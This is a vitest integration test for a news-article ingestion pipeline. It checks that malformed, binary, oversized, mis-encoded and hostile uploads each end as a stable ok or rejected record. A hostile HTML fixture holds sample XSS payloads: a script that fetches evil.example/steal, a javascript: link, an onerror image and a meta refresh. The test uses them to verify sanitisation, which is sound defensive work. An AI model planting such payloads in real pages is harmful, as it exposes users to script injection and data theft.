/**
 * "Nothing lost, nobody in": every kind of bad upload goes through the real local path
 * (S3 upload → notification → local queue → ingest handler → DynamoDB) and comes out as an `ok`
 * record or a `rejected` record with a stable code; the uploaded object is never touched and
 * the batch it came in goes on. docs/robustness.md has the table of outcomes.
 */
import { gzipSync } from 'node:zlib';
import type { S3Client } from '@aws-sdk/client-s3';
import { Logger } from '@aws-lambda-powertools/logger';
import type { SQSBatchResponse, SQSEvent } from 'aws-lambda';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createIngestHandler } from '../../functions/ingest/ingest-handler.ts';
import type { REJECTION_CODES } from '#shared/domain/errors.ts';
import { articleIdOf } from '#shared/ingest/article-id.ts';
import type { QueueHandler } from '#ops/local/local-queue.ts';
import { createLocalClients } from '#ops/local/local-stack.ts';
import { buildS3EventRecord } from '#ops/local/s3-event.ts';
import type { ArticleRecord } from '#shared/record.ts';
import { type IngestHarness, startIngestHarness } from './helpers/ingest-harness.ts';
import { type ConnectedEmulators, useEmulators } from './helpers/use-emulators.ts';

const utf8 = (text: string) => new TextEncoder().encode(text);

// Short articles written for these tests.
const GOOD_ARTICLE = `JAKARTA - Menteri Luar Negeri Indonesia bertemu dengan mitranya dari Arab Saudi di Riyadh pada Selasa untuk membahas gencatan senjata di Gaza dan bantuan kemanusiaan bagi warga Palestina.

Pertemuan itu berlangsung selama dua jam. Kedua menteri sepakat untuk terus mendorong perundingan damai dan membuka jalur bantuan melalui perbatasan Rafah.

"Kami ingin kekerasan segera berhenti," kata menteri kepada wartawan setelah pertemuan tersebut.`;

const FRENCH_ARTICLE = `PARIS - Le ministre des Affaires étrangères a déclaré mardi que les négociations sur le cessez-le-feu à Gaza « progressent » après une réunion au Caire.

Selon lui, l'accord prévoit l'échange de prisonniers et l'entrée de l'aide humanitaire, une étape décisive pour la région.`;

const JAPANESE_ARTICLE = `東京 - 日本政府は火曜日、新しい経済対策を発表した。対策には、物価高に苦しむ家庭への給付金や、中小企業への支援が含まれる。

政府関係者によると、対策の総額は約十兆円に上る見通しだ。野党は、対策が遅すぎると批判している。

首相は記者会見で、国民の生活を守るために全力を尽くすと述べた。`;

const SWAHILI_ARTICLE = `NAIROBI - Serikali ya Kenya imetangaza mpango mpya wa kusaidia wakulima wadogo kupata mbolea kwa bei nafuu msimu huu wa mvua.

Waziri wa Kilimo alisema mpango huo utawafikia wakulima zaidi ya milioni mbili katika kaunti zote za nchi.

Wakulima wengi wamelalamika kuhusu kupanda kwa bei ya mbolea katika miaka ya hivi karibuni.`;

const NO_TOPIC_ARTICLE = `BANDUNG - Sebuah toko roti di pusat kota Bandung merayakan ulang tahun ke-50 dengan membagikan kue gratis kepada pelanggan setia pada Minggu pagi.

Pemilik toko mengatakan resep roti mereka tidak berubah sejak pertama kali dibuka oleh kakeknya pada tahun 1975.

Antrean pembeli sudah terlihat sejak pukul enam pagi, dan banyak warga datang bersama keluarga mereka.`;

/** Markers that must never reach a record: script text, handler attributes, hostile URLs. */
const HOSTILE_MARKERS = ['SCRIPT_PAYLOAD_7f3a', 'SCRIPT_PAYLOAD_TWO_11aa', 'XSS_LINK_9c1d', 'IMG_ONERROR_5e2b', 'evil.example', 'javascript:'];
const HOSTILE_HTML = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/redirect">
<title>Ceasefire talks resume in Cairo</title>
<script>window.pwned = "SCRIPT_PAYLOAD_7f3a"; fetch("https://evil.example/steal");</script></head>
<body><article><h1>Ceasefire talks resume in Cairo</h1>
<p>CAIRO - Negotiators from Israel and Hamas resumed indirect ceasefire talks in Cairo on Tuesday, Egyptian officials said, as mediators pushed for a deal on hostages and humanitarian aid for Gaza.</p>
<iframe src="https://evil.example/frame"></iframe>
<p>The talks come after weeks of deadlock. <a href="javascript:alert('XSS_LINK_9c1d')">Read more</a> Qatar and the United States are also taking part in the mediation effort, diplomats said.</p>
<img src="https://evil.example/pixel.gif" onerror="alert('IMG_ONERROR_5e2b')">
<script>document.write("SCRIPT_PAYLOAD_TWO_11aa")</script>
<p>An Egyptian source said the delegations would meet again on Wednesday to discuss the remaining points of disagreement over the release of prisoners.</p>
</article></body></html>`;

/** An ASCII key of exactly `bytes` bytes under incoming/, with a `/` every 200 characters (s3rver stores keys as file paths). */
function longKey(bytes: number): string {
  const head = 'incoming/long/';
  const tail = '.txt';
  let middle = '';
  while (head.length + middle.length + tail.length < bytes) middle += (middle.length + 1) % 200 === 0 ? '/' : 'k';
  return head + middle + tail;
}

type Expected =
  | { status: 'ok'; check?: (record: ArticleRecord) => void }
  | { status: 'rejected'; code: (typeof REJECTION_CODES)[number] }
  /** Hostile sizes: the one promise is a record (ok or rejected), never a crash or a poison message. */
  | { status: 'ok or rejected'; check?: (record: ArticleRecord) => void };

interface BadInput {
  name: string;
  key: string;
  bytes: Uint8Array;
  contentType?: string;
  expected: Expected;
}

const rejected = (code: (typeof REJECTION_CODES)[number]): Expected => ({ status: 'rejected', code });
const ok = (check?: (record: ArticleRecord) => void): Expected => ({ status: 'ok', check });
const completes = (check?: (record: ArticleRecord) => void): Expected => ({ status: 'ok or rejected', check });

// The first ten (a batch) mix bad objects with the good article, which must come out ok.
const MATRIX: BadInput[] = [
  { name: 'an empty object', key: 'incoming/empty.txt', bytes: new Uint8Array(), expected: rejected('EMPTY') },
  { name: 'white space only', key: 'incoming/blank.txt', bytes: utf8(' \n\t\r\n   \u00a0\n\n'), expected: rejected('EMPTY') },
  { name: 'a folder marker (key ending in /, 0 bytes)', key: 'incoming/2025/', bytes: new Uint8Array(), expected: rejected('EMPTY') },
  {
    name: 'a PDF',
    key: 'incoming/report.pdf',
    bytes: Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1'), pseudoRandomBytes(4000, 7)]),
    expected: rejected('BINARY'),
  },
  {
    name: 'the good article, in the same batch',
    key: 'incoming/good.txt',
    bytes: utf8(GOOD_ARTICLE),
    expected: ok((r) => expect(r.topics).toContain('diplomacy')),
  },
  {
    name: 'a PNG',
    key: 'incoming/photo.png',
    bytes: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.from('IHDR'), pseudoRandomBytes(4000, 11)]),
    expected: rejected('BINARY'),
  },
  { name: 'a gzip of an article', key: 'incoming/article.txt.gz', bytes: gzipSync(GOOD_ARTICLE), expected: rejected('BINARY') },
  {
    // 50 MB of zeros in ~50 KB: never inflated.
    name: 'a zip-bomb-like gzip of zeros',
    key: 'incoming/bomb.txt',
    bytes: gzipSync(Buffer.alloc(50 * 1024 * 1024), { level: 9 }),
    expected: rejected('BINARY'),
  },
  {
    name: 'malformed JSON',
    key: 'incoming/broken.json',
    bytes: utf8('{"title": "Talks in Riyadh", "body": "The delegations met'),
    expected: rejected('INVALID_JSON'),
  },
  {
    name: 'JSON without a body',
    key: 'incoming/no-body.json',
    bytes: utf8(JSON.stringify({ title: 'Talks in Riyadh', url: 'https://example.com/a', published: '2025-02-18' })),
    expected: rejected('NO_BODY'),
  },
  // Text that only looks like JSON: cleaned as text unless the upload declared JSON.
  {
    name: 'a .txt page dump opening with a rendered search box "[ ]"',
    key: 'incoming/page-dump.txt',
    bytes: utf8(`[ ] Search\n[ Sign in ]  Home  World  Politics\n\n${GOOD_ARTICLE}`),
    expected: ok((r) => {
      expect(r.format).toBe('text');
      expect(r.topics).toContain('diplomacy');
    }),
  },
  {
    name: 'broken JSON sent as text/plain',
    key: 'incoming/looks-like-json',
    contentType: 'text/plain',
    bytes: utf8(`{ "title": "Talks in Riyadh" ,\n\n${GOOD_ARTICLE}`),
    expected: ok((r) => expect(r.format).toBe('text')),
  },
  {
    name: 'the same broken JSON declared as application/json',
    key: 'incoming/declared-json',
    contentType: 'application/json',
    bytes: utf8(`{ "title": "Talks in Riyadh" ,\n\n${GOOD_ARTICLE}`),
    expected: rejected('INVALID_JSON'),
  },
  // Encodings.
  {
    // Stray invalid sequences in otherwise-ASCII text: decoded as the legacy Windows-1252 fallback.
    name: 'invalid UTF-8',
    key: 'incoming/invalid-utf8.txt',
    bytes: Buffer.concat([
      utf8(GOOD_ARTICLE.slice(0, 200)),
      Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff]),
      utf8(GOOD_ARTICLE.slice(200)),
    ]),
    expected: ok((r) => expect(r.encoding).toBe('windows-1252')),
  },
  {
    name: 'UTF-16LE with a BOM',
    key: 'incoming/utf16-bom.txt',
    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(GOOD_ARTICLE, 'utf16le')]),
    expected: ok((r) => {
      expect(r.encoding).toBe('utf-16le');
      expect(r.body).toContain('Menteri Luar Negeri');
    }),
  },
  {
    name: 'UTF-16LE without a BOM',
    key: 'incoming/utf16-nobom.txt',
    bytes: Buffer.from(GOOD_ARTICLE, 'utf16le'),
    expected: ok((r) => {
      expect(r.encoding).toBe('utf-16le');
      expect(r.body).toContain('Menteri Luar Negeri');
    }),
  },
  {
    name: 'UTF-16BE with a BOM',
    key: 'incoming/utf16be-bom.txt',
    bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(GOOD_ARTICLE, 'utf16le').swap16()]),
    expected: ok((r) => {
      expect(r.encoding).toBe('utf-16be');
      expect(r.body).toContain('Menteri Luar Negeri');
    }),
  },
  {
    name: 'Windows-1252',
    key: 'incoming/cp1252.txt',
    bytes: Buffer.from(FRENCH_ARTICLE, 'latin1'),
    expected: ok((r) => {
      expect(r.encoding).toBe('windows-1252');
      expect(r.body).toContain('négociations sur le cessez-le-feu');
    }),
  },
  // Size and shape.
  {
    name: 'JSON with a 10 MB string',
    key: 'incoming/huge.json',
    bytes: utf8(JSON.stringify({ title: 'A very long article', body: 'a'.repeat(10 * 1024 * 1024) })),
    // The body is far over an item's 400 KB: it goes to S3 and the item keeps a reference.
    expected: completes((r) => expect(r.body?.length).toBe(10 * 1024 * 1024)),
  },
  {
    name: 'HTML with scripts, iframes, javascript: links, external images and a meta refresh',
    key: 'incoming/hostile.html',
    contentType: 'text/html',
    bytes: utf8(HOSTILE_HTML),
    expected: ok((r) => {
      expect(r.body).toContain('resumed indirect ceasefire talks');
      const stored = JSON.stringify(r);
      for (const marker of HOSTILE_MARKERS) expect(stored).not.toContain(marker);
    }),
  },
  {
    name: 'HTML with no article',
    key: 'incoming/navigation.html',
    contentType: 'text/html',
    bytes: utf8(
      '<!doctype html><html><head><title>Home</title></head><body><nav><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li><li><a href="/sport">Sport</a></li></ul></nav><footer>© 2025</footer></body></html>',
    ),
    expected: rejected('NO_ARTICLE'),
  },
  {
    name: 'a 1 MB single line',
    key: 'incoming/one-line.txt',
    bytes: utf8('The talks continued. '.repeat(50_000).trim()),
    expected: completes((r) => expect(r.body?.length).toBeGreaterThan(1_000_000)),
  },
  {
    name: 'JSON with a 600 KB title',
    key: 'incoming/long-title.json',
    bytes: utf8(JSON.stringify({ title: 'Talks '.repeat(100_000), body: GOOD_ARTICLE })),
    expected: completes(),
  },
  {
    name: 'JSON with 1 MB of extra fields',
    key: 'incoming/extra-fields.json',
    bytes: utf8(
      JSON.stringify({
        title: 'Talks in Riyadh',
        body: GOOD_ARTICLE,
        tags: Array.from({ length: 50_000 }, (_, i) => `tag-${i}`),
        subtitle: 'x'.repeat(500_000),
      }),
    ),
    expected: completes((r) => expect(r.body).toContain('Menteri Luar Negeri')),
  },
  {
    name: 'JSON with a 500 KB url',
    key: 'incoming/long-url.json',
    bytes: utf8(JSON.stringify({ title: 'Talks in Riyadh', url: `https://example.com/${'a'.repeat(500_000)}`, body: GOOD_ARTICLE })),
    expected: completes(),
  },
  {
    name: 'JSON with 20 000 authors',
    key: 'incoming/many-authors.json',
    bytes: utf8(JSON.stringify({ title: 'Talks in Riyadh', authors: Array.from({ length: 20_000 }, (_, i) => `Reporter Number ${i}`), body: GOOD_ARTICLE })),
    expected: completes(),
  },
  {
    name: '20 000 photo-credit lines',
    key: 'incoming/credits.txt',
    bytes: utf8(`${GOOD_ARTICLE}\n\n${Array.from({ length: 20_000 }, (_, i) => `Foto: Reuters ${i}`).join('\n')}`),
    expected: completes((r) => expect(r.body).not.toContain('Foto: Reuters')),
  },
  {
    name: '100 000 "Baca Juga:" lines',
    key: 'incoming/baca-juga.txt',
    bytes: utf8(`${GOOD_ARTICLE}\n${'Baca Juga:\n'.repeat(100_000)}`),
    expected: ok((r) => {
      expect(r.body).toContain('Menteri Luar Negeri');
      expect(r.body).not.toContain('Baca Juga');
    }),
  },
  {
    name: '200 000 "Baca juga: x" lines and nothing else',
    key: 'incoming/only-related-links.txt',
    bytes: utf8('Baca juga: x\n'.repeat(200_000)),
    expected: rejected('EMPTY_AFTER_CLEANING'),
  },
  // Keys.
  {
    name: 'a key with spaces, +, %, quotes and emoji',
    key: `incoming/pers "rilis" 'final' 100% + revisi 🚀📰 café.txt`,
    bytes: utf8(GOOD_ARTICLE),
    expected: ok(),
  },
  { name: 'a key with a literal %20 and +', key: 'incoming/a%20b+c%2Fd.txt', bytes: utf8(GOOD_ARTICLE), expected: ok() },
  { name: 'a key of 1 000 bytes', key: longKey(1000), bytes: utf8(GOOD_ARTICLE), expected: ok((r) => expect(Buffer.byteLength(r.objectKey)).toBe(1000)) },
  // Languages and topics.
  {
    name: 'a Japanese article (a language we do not cover)',
    key: 'incoming/ja.txt',
    bytes: utf8(JAPANESE_ARTICLE),
    expected: ok((r) => {
      expect(r.language).toBe('ja');
      expect(r.topics).toEqual([]);
    }),
  },
  {
    name: 'a Swahili article (a language we do not cover)',
    key: 'incoming/sw.txt',
    bytes: utf8(SWAHILI_ARTICLE),
    expected: ok((r) => {
      expect(r.language).toBe('sw');
      expect(r.topics).toEqual([]);
    }),
  },
  {
    name: 'an article with no topic',
    key: 'incoming/bakery.txt',
    bytes: utf8(NO_TOPIC_ARTICLE),
    expected: ok((r) => {
      expect(r.language).toBe('id');
      expect(r.topics).toEqual([]);
      expect(r.primaryTopic).toBeNull();
    }),
  },
];

/** Deterministic filler bytes (a linear congruential sequence), so fixtures are the same every run. */
function pseudoRandomBytes(size: number, seed: number): Buffer {
  const bytes = Buffer.alloc(size);
  let state = seed;
  for (let i = 0; i < size; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    bytes[i] = state >>> 24;
  }
  return bytes;
}

let emulators: ConnectedEmulators;
beforeAll(async () => {
  emulators = await useEmulators();
});
afterAll(() => emulators?.release());

describe('bad input through the local stack', () => {
  let harness: IngestHarness;
  const batches: { keys: string[]; failures: number }[] = [];
  const fetchStub = vi.fn(() => {
    throw new Error('no network in ingestion: fetch must never be called');
  });

  /** Records each batch's object keys and failures, so tests can see what went together. */
  const watchBatches =
    (handler: QueueHandler): QueueHandler =>
    async (event, context) => {
      const response = (await handler(event, context)) as SQSBatchResponse | undefined;
      batches.push({ keys: event.Records.map((r) => keyOf(r.body)), failures: response?.batchItemFailures.length ?? 0 });
      return response;
    };

  beforeAll(async () => {
    vi.stubGlobal('fetch', fetchStub);
    // Large enough to let the 10 MB JSON in.
    harness = await startIngestHarness({ emulators, maxArticleBytes: 12 * 1024 * 1024, wrapHandler: watchBatches });
    // Queue everything while the worker is stopped, so the first batch is exactly the first ten.
    await harness.ingestion.queue.stop();
    for (const input of MATRIX) await harness.upload(input.key, input.bytes, input.contentType);
    await harness.upload('drafts/not-incoming.txt', utf8(GOOD_ARTICLE));
    await vi.waitFor(async () => expect(await harness.ingestion.queue.pendingCount(), 'every upload queued').toBe(MATRIX.length), {
      timeout: 30_000,
      interval: 25,
    });
    harness.ingestion.queue.start();
    await harness.ingestion.queue.waitUntilEmpty(150_000);
  }, 200_000);
  afterAll(async () => {
    vi.unstubAllGlobals();
    await harness?.stop();
  });

  const outcomeOf = (expected: Expected) => (expected.status === 'rejected' ? `rejected ${expected.code}` : expected.status);
  it.each(MATRIX.map((input) => ({ ...input, outcome: outcomeOf(input.expected) })))('$name → $outcome', async (input) => {
    const record = await harness.recordOf(input.key);
    expect(record, `record for ${input.key}`).not.toBeNull();
    expect(record!.objectKey).toBe(input.key);
    expect(record!.id).toBe(articleIdOf(harness.bucket, input.key));
    if (input.expected.status === 'rejected') {
      expect({ status: record!.status, errorCode: record!.errorCode }).toEqual({ status: 'rejected', errorCode: input.expected.code });
      expect(record!.errorMessage).toMatch(/^[A-Z].{10,}/);
      expect(record!.body).toBeNull();
    } else if (input.expected.status === 'ok') {
      expect(record!.status, record!.errorMessage ?? '').toBe('ok');
      expect(record!.errorCode).toBeNull();
      input.expected.check?.(record!);
    } else {
      expect(['ok', 'rejected']).toContain(record!.status);
      if (record!.status === 'ok') input.expected.check?.(record!);
    }
    // The raw upload is evidence: never modified, never deleted.
    expect((await harness.readObject(input.key)).equals(Buffer.from(input.bytes))).toBe(true);
  });

  it('processes bad objects in one batch with a good one: no message fails and the good article is ok', async () => {
    const first = batches[0];
    expect(first?.keys.sort()).toEqual(
      MATRIX.slice(0, 10)
        .map((i) => i.key)
        .sort(),
    );
    expect(batches.reduce((n, b) => n + b.failures, 0)).toBe(0);
    expect((await harness.recordOf('incoming/good.txt'))?.status).toBe('ok');
    expect(await harness.deadLetters()).toEqual([]);
  });

  it('never fetches anything an article points to (scripts, iframes, images, refresh)', () => {
    expect(fetchStub).not.toHaveBeenCalled();
  });

  it('ignores objects outside incoming/: no notification is queued and no record appears', async () => {
    expect(await harness.recordOf('drafts/not-incoming.txt')).toBeNull();
  });

  it('records an event for an object outside incoming/ sent straight to the handler as rejected NOT_INCOMING', async () => {
    const handler = createIngestHandler({
      s3: harness.s3,
      dynamodb: harness.dynamodb,
      tableName: harness.tableName,
      bucketName: harness.bucket,
      logger: new Logger({ logLevel: 'SILENT' }),
    });
    const response = await handler(sqsEventFor(harness.bucket, 'drafts/not-incoming.txt', 'ObjectCreated:Put'));
    expect(response.batchItemFailures).toEqual([]);
    const record = await harness.recordOf('drafts/not-incoming.txt');
    expect({ status: record?.status, errorCode: record?.errorCode }).toEqual({ status: 'rejected', errorCode: 'NOT_INCOMING' });
    expect((await harness.readObject('drafts/not-incoming.txt')).toString()).toBe(GOOD_ARTICLE);
  });
});

describe('the size cap', () => {
  let harness: IngestHarness;
  const requests: { command: string; key: string | undefined }[] = [];

  beforeAll(async () => {
    harness = await startIngestHarness({
      emulators,
      maxArticleBytes: 64 * 1024,
      // The handler gets its own S3 client, with a middleware that notes every command it sends.
      handlerClients: ({ s3Endpoint }) => {
        const clients = createLocalClients({ s3Endpoint, dynamodbEndpoint: emulators.dynamodbEndpoint });
        countCommands(clients.s3, requests);
        return clients;
      },
    });
  });
  afterAll(() => harness?.stop());

  it('rejects an object over the cap as TOO_LARGE from its size alone, without ever downloading it', async () => {
    const key = 'incoming/too-large.txt';
    const bytes = utf8(`${GOOD_ARTICLE}\n\n`.repeat(200));
    expect(bytes.length).toBeGreaterThan(64 * 1024);
    await harness.upload(key, bytes);
    const record = await harness.waitForRecord(key);
    expect({ status: record.status, errorCode: record.errorCode, size: record.size }).toEqual({
      status: 'rejected',
      errorCode: 'TOO_LARGE',
      size: bytes.length,
    });
    expect(record.errorMessage).toContain(String(64 * 1024));
    expect(requests.filter((r) => r.key === key).map((r) => r.command)).toEqual(['HeadObjectCommand']);
    expect((await harness.readObject(key)).equals(Buffer.from(bytes))).toBe(true);
  });

  it('still reads an object just under the cap, with one GET', async () => {
    const key = 'incoming/just-under.txt';
    await harness.upload(key, utf8(GOOD_ARTICLE));
    expect((await harness.waitForRecord(key)).status).toBe('ok');
    expect(requests.filter((r) => r.key === key).map((r) => r.command)).toEqual(['GetObjectCommand']);
  });

  it('rejects an object over the cap whose event has no size from the GET’s headers (one request), as TOO_LARGE', async () => {
    const key = 'incoming/too-large-no-size.txt';
    const bytes = utf8(`${GOOD_ARTICLE}\n\n`.repeat(200));
    await harness.upload(key, bytes);
    await harness.waitForRecord(key);
    // Reprocessing sends events without a size: the same object, the same verdict.
    const event = buildS3EventRecord({ eventName: 'ObjectCreated:Put', bucket: harness.bucket, key, sequencer: 'FFFFFFFFFFFFFFFF' });
    await harness.ingestion.queue.send(JSON.stringify({ Records: [event] }));
    const record = await harness.waitForRecord(key, 60_000, (r) => r.sequencer.startsWith('FFFFFFFFFFFFFFFF'));
    expect({ status: record.status, errorCode: record.errorCode, size: record.size }).toEqual({
      status: 'rejected',
      errorCode: 'TOO_LARGE',
      size: bytes.length,
    });
    expect(requests.filter((r) => r.key === key).map((r) => r.command)).toEqual(['HeadObjectCommand', 'GetObjectCommand']);
  });
});

describe('logs', () => {
  let harness: IngestHarness;
  const captured: string[] = [];
  const writes = { stdout: process.stdout.write, stderr: process.stderr.write };

  beforeAll(async () => {
    // The handler's logger writes JSON lines to stdout/stderr, as in Lambda: capture both streams.
    for (const stream of ['stdout', 'stderr'] as const) {
      const original = writes[stream];
      process[stream].write = ((chunk: string | Uint8Array, ...rest: unknown[]) => {
        const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString();
        if (text.includes('"kabar-ingest-logtest"')) {
          captured.push(text);
          return true;
        }
        return (original as (...args: unknown[]) => boolean).call(process[stream], chunk, ...rest);
      }) as typeof process.stdout.write;
    }
    harness = await startIngestHarness({ emulators, logger: new Logger({ serviceName: 'kabar-ingest-logtest', logLevel: 'DEBUG' }) });
  });
  afterAll(async () => {
    await harness?.stop();
    process.stdout.write = writes.stdout;
    process.stderr.write = writes.stderr;
  });

  it('never carry article text: neither an ok body nor a rejected one', async () => {
    const sentence = 'Juru bicara kementerian menyebut kalimat unik ini zebra-kuning-4417 hanya ada di badan artikel.';
    await harness.upload('incoming/secret.txt', utf8(`${GOOD_ARTICLE}\n\n${sentence}`));
    await harness.upload('incoming/secret-broken.json', utf8(`{"title": "x", "body": "${sentence}`));
    expect((await harness.waitForRecord('incoming/secret.txt')).body).toContain('zebra-kuning-4417');
    expect((await harness.waitForRecord('incoming/secret-broken.json')).errorCode).toBe('INVALID_JSON');
    const logs = captured.join('');
    expect(logs).toContain('Article stored');
    expect(logs).toContain('incoming/secret.txt');
    expect(logs).not.toContain('zebra-kuning-4417');
    expect(logs).not.toContain('Menteri Luar Negeri');
  });
});

function keyOf(messageBody: string): string {
  const parsed = JSON.parse(messageBody) as { Records: { s3: { object: { key: string } } }[] };
  return decodeURIComponent((parsed.Records[0]?.s3.object.key ?? '').replace(/\+/g, ' '));
}

function sqsEventFor(bucket: string, key: string, eventName: 'ObjectCreated:Put'): SQSEvent {
  const record = buildS3EventRecord({ eventName, bucket, key, size: 1, eTag: '0', sequencer: '00000000000000000001' });
  return {
    Records: [
      {
        messageId: 'direct-1',
        receiptHandle: '',
        body: JSON.stringify({ Records: [record] }),
        attributes: { ApproximateReceiveCount: '1', SentTimestamp: '0', SenderId: 'test', ApproximateFirstReceiveTimestamp: '0' },
        messageAttributes: {},
        md5OfBody: '',
        eventSource: 'aws:sqs',
        eventSourceARN: 'arn:aws:sqs:us-east-1:000000000000:kabar-ingest',
        awsRegion: 'us-east-1',
      },
    ],
  };
}

/** Notes the command name and key of every request the client sends. */
function countCommands(s3: S3Client, into: { command: string; key: string | undefined }[]): void {
  s3.middlewareStack.add(
    (next, context) => async (args) => {
      into.push({ command: context.commandName ?? 'unknown', key: (args.input as { Key?: string }).Key });
      return next(args);
    },
    { step: 'initialize', name: 'kabarCountCommands' },
  );
}
